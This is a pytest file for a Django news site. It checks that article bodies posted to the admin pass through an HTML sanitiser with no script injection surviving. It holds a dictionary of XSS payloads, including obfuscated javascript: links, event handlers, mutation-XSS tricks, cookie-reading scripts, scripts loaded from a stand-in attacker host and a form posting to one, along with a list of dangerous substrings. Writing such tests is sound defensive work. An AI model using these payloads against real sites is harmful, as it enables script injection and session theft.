"""An article body posted straight to the admin, bypassing the editor and its own filter: what is
stored is exactly what the sanitiser allows, and none of the attack survives."""

from html.parser import HTMLParser
from http import HTTPStatus

import pytest
from django.conf import settings
from django.urls import reverse

from articles.models import Article
from articles.sanitizer import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitize_html
from tests.articles.admin_forms import article_form_data
from tests.factories import ArticleFactory

pytestmark = pytest.mark.django_db

ATTACKS = {
    "script": "<p>Tin</p><script>alert(document.cookie)</script>",
    "script, upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>Tin</p>",
    "javascript: link": '<a href="javascript:alert(1)">Xem</a>',
    "javascript: link with entities": '<a href="&#106;ava&#x73;cript&colon;alert(1)">Xem</a>',
    "javascript: link with a tab and capitals": '<a href="JaVa&#x09;ScRiPt:alert(1)">Xem</a>',
    "javascript: link with leading spaces": '<a href="  javascript:alert(1)">Xem</a>',
    "vbscript: link": '<a href="vbscript:msgbox(1)">Xem</a>',
    "data: link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Xem</a>',
    "data: image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="">',
    "event handler on an image": '<img src="/media/a.png" alt="Cầu" onerror="alert(1)">',
    "event handler without quotes": "<p onmouseover=alert(1)>Tin</p>",
    "event handler on a link": '<a href="https://hanoi.gov.vn" onclick="alert(1)">Cổng</a>',
    "iframe": '<iframe src="https://evil.example"></iframe><p>Tin</p>',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "style element": "<style>body{background:url(javascript:alert(1))}</style><p>Tin</p>",
    "style attribute": '<p style="background:url(javascript:alert(1))">Tin</p>',
    "svg with script": "<svg><script>alert(1)</script></svg><p>Tin</p>",
    "svg onload": "<svg onload=alert(1)><p>Tin</p></svg>",
    "svg use with a data: document": '<svg><use href="data:image/svg+xml,&lt;svg id=x&gt;"/></svg>',
    "CDATA hiding a script": "<![CDATA[<script>alert(1)</script>]]><p>Tin</p>",
    "CDATA inside svg": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "object": '<object data="javascript:alert(1)"></object><p>Tin</p>',
    "embed": '<embed src="https://evil.example/x.swf"><p>Tin</p>',
    "form": '<form action="https://evil.example/"><input name="mk"><button>Gửi</button></form>',
    "base": '<base href="https://evil.example/"><p>Tin</p>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>Tin</p>',
    "link element": '<link rel="stylesheet" href="https://evil.example/x.css"><p>Tin</p>',
    "comment hiding a tag": "<!--<img src=x onerror=alert(1)>--><p>Tin</p>",
    "broken comment": "<p>Tin</p><!-- --!><script>alert(1)</script> -->",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "math mutation": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
        "</table></mtext></math>"
    ),
    "template": "<template><script>alert(1)</script></template><p>Tin</p>",
    "remote image (tracking pixel)": '<img src="https://evil.example/pixel.gif" alt="">',
    "protocol-relative image": '<img src="//evil.example/pixel.gif" alt="">',
    "image outside the media folder": '<img src="/media/../admin/logout/" alt="">',
    "image outside the media folder, encoded": '<img src="/media/%2e%2e/admin/logout/" alt="">',
    "link target": '<a href="https://hanoi.gov.vn" target="_blank">Cổng</a>',
    "id and name attributes": '<p id="content" name="x">Tin</p>',
}

DANGEROUS_SUBSTRINGS = (
    "<script",
    "javascript:",
    "vbscript:",
    "data:",
    "<iframe",
    "<style",
    "<svg",
    "<object",
    "<embed",
    "<form",
    "<base",
    "<meta",
    "<link",
    "<template",
    "<math",
    "srcdoc",
    "evil.example",
    "target=",
    "<!--",
)


class _Structure(HTMLParser):
    def __init__(self):
        super().__init__()
        self.elements: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def structure(html: str) -> list[tuple[str, dict]]:
    parser = _Structure()
    parser.feed(html)
    return parser.elements


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_body_posted_to_the_admin_is_stored_as_the_sanitiser_allows(editor_client, attack):
    article = ArticleFactory(body="<p>Bản cũ.</p>")
    data = article_form_data(article.category, article, body=attack)

    response = editor_client.post(reverse("admin:articles_article_change", args=[article.pk]), data)

    assert response.status_code == HTTPStatus.FOUND
    stored = Article.objects.get(pk=article.pk).body
    assert stored == sanitize_html(attack)
    lowered = stored.lower()
    assert not [bad for bad in DANGEROUS_SUBSTRINGS if bad in lowered]
    for tag, attributes in structure(stored):
        assert tag in ALLOWED_TAGS
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()) | {"class", "rel"}
        assert not [name for name in attributes if name.startswith("on")]


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_sanitising_twice_changes_nothing(attack):
    once = sanitize_html(attack)

    assert sanitize_html(once) == once


def test_every_attack_at_once_in_a_new_article(editor_client, category):
    body = "\n".join(ATTACKS.values())
    data = article_form_data(category, title="Bài thử nghiệm tấn công", body=body)

    response = editor_client.post(reverse("admin:articles_article_add"), data)

    assert response.status_code == HTTPStatus.FOUND
    stored = Article.objects.get(title="Bài thử nghiệm tấn công").body
    assert stored == sanitize_html(body)
    assert sanitize_html(stored) == stored
    assert not [bad for bad in DANGEROUS_SUBSTRINGS if bad in stored.lower()]


def test_a_saved_body_is_sanitised_even_outside_the_admin(category):
    """The model's save() is the boundary, whatever writes the article."""
    article = Article.objects.create(
        title="Tin", lead="Sapo.", body=ATTACKS["script"], byline="PV", category=category
    )

    assert article.body == "<p>Tin</p>"
    assert Article.objects.get(pk=article.pk).body == "<p>Tin</p>"


@pytest.mark.parametrize(
    "href", ["https://hanoi.gov.vn/", "http://example.vn/", "/bai-viet/tin/", "mailto:a@b.vn"]
)
def test_every_link_gets_noopener_noreferrer(href):
    stored = sanitize_html(f'<p><a href="{href}" target="_blank" rel="opener">Xem</a></p>')

    assert stored == f'<p><a href="{href}" rel="noopener noreferrer">Xem</a></p>'


def test_uploaded_pictures_are_kept():
    html = (
        '<figure class="image-captioned"><img src="/media/uploads/2026/11/cau.png" alt="Cầu">'
        "<figcaption>Cầu</figcaption></figure>"
    )

    assert sanitize_html(html) == html


def test_pictures_from_the_media_host_are_kept_when_media_are_served_elsewhere(settings):
    """With media in a bucket behind a CDN, the storage's address is the media host's."""
    settings.MEDIA_URL = "https://media.hnp.example/"

    kept = '<img src="https://media.hnp.example/uploads/cau.png" alt="Cầu">'
    assert sanitize_html(kept) == kept
    assert sanitize_html('<img src="/media/uploads/cau.png" alt="Cầu">') == ""


def test_the_editor_never_runs_in_full_page_mode_nor_allows_script_or_style():
    config = settings.CKEDITOR_CONFIGS["default"]

    assert config.get("fullPage", False) is False
    assert config.get("allowedContent", False) is not True
    disallowed = {rule.strip().split("[")[0] for rule in config["disallowedContent"].split(";")}
    assert {"script", "style", "iframe", "object", "embed"} <= disallowed
    assert "*[on*]" in config["disallowedContent"]
    for plugin in ("iframe", "flash", "forms"):
        assert plugin in config["removePlugins"].split(",")
